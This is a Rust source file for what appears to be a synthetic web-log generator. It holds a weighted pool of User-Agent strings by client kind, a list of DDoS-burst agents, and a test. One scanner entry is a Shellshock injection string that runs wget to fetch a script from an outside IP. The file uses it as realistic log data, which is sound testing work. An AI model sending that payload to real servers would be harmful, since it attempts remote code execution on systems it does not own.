//! The pool of user agents and what kind of client each one is.
//!
//! The kind drives behaviour (browsers load assets and follow a click path,
//! crawlers read robots.txt and walk the catalogue, scanners probe for
//! vulnerabilities), so the agent string and the requests stay consistent.
//! A few strings contain `"` or `\`, which Apache escapes as `\"` and `\\`:
//! parsers must unescape them. The strings here are the *unescaped* values.

/// What kind of client an agent string belongs to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AgentKind {
    /// A desktop or mobile browser driven by a person.
    Browser,
    /// A search-engine or SEO crawler.
    Crawler,
    /// Scripts and command-line tools (curl, wget, python-requests).
    Tool,
    /// Uptime monitors: mostly `HEAD /`.
    Monitor,
    /// Vulnerability scanners.
    Scanner,
}

/// One user agent of the pool.
pub struct Agent {
    /// Kind of client.
    pub kind: AgentKind,
    /// Relative share of visitors using it.
    pub weight: u32,
    /// The `User-Agent` header value (unescaped).
    pub ua: &'static str,
}

const fn a(kind: AgentKind, weight: u32, ua: &'static str) -> Agent {
    Agent { kind, weight, ua }
}

use AgentKind::*;

/// The pool. Weights are per visitor: a crawler visitor makes many more
/// requests per session than a browser, so its share of lines is higher.
pub const AGENTS: &[Agent] = &[
    a(Browser, 220, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
    a(Browser, 90, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
    a(Browser, 70, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0"),
    a(Browser, 60, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15"),
    a(Browser, 50, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0"),
    a(Browser, 20, "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"),
    a(Browser, 200, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"),
    a(Browser, 160, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36"),
    a(Browser, 40, "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36"),
    a(Browser, 25, "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1"),
    // Some clients send the header with literal quotes around it.
    a(Browser, 6, "\"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko\""),
    a(Browser, 4, "Mozilla/5.0 (Linux; Android 9; \"Redmi Note 8\") AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"),
    a(Crawler, 30, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    a(Crawler, 15, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    a(Crawler, 8, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
    a(Crawler, 8, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    a(Crawler, 5, "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"),
    a(Crawler, 3, "Mozilla/5.0 (compatible; PriceSpy/1.0; +\"https://pricespy.example.org/bot\")"),
    a(Tool, 12, "curl/8.5.0"),
    a(Tool, 5, "Wget/1.21.4"),
    a(Tool, 10, "python-requests/2.32.3"),
    a(Tool, 4, "Go-http-client/1.1"),
    a(Tool, 2, "-"),
    a(Monitor, 6, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
    a(Monitor, 3, "kube-probe/1.31"),
    a(Scanner, 4, "Mozilla/5.0 zgrab/0.x"),
    a(Scanner, 2, "() { :; }; /bin/bash -c \"wget http://198.51.100.66/x.sh\""),
    a(Scanner, 2, "sqlmap/1.8#stable (https://sqlmap.org)"),
    a(Scanner, 1, "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; C:\\Windows\\System32\\scan.exe)"),
];

/// Agents an attacker's burst uses.
pub const DDOS_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36",
    "python-requests/2.25.1",
    "Go-http-client/1.1",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pool_has_escapable_and_plain_agents() {
        assert!(AGENTS.iter().any(|a| a.ua.contains('"')));
        assert!(AGENTS.iter().any(|a| a.ua.contains('\\')));
        for kind in [Browser, Crawler, Tool, Monitor, Scanner] {
            assert!(AGENTS.iter().any(|a| a.kind == kind && a.weight > 0));
        }
        assert!(AGENTS.iter().all(|a| a.ua.is_ascii() && !a.ua.contains('\n')));
    }
}
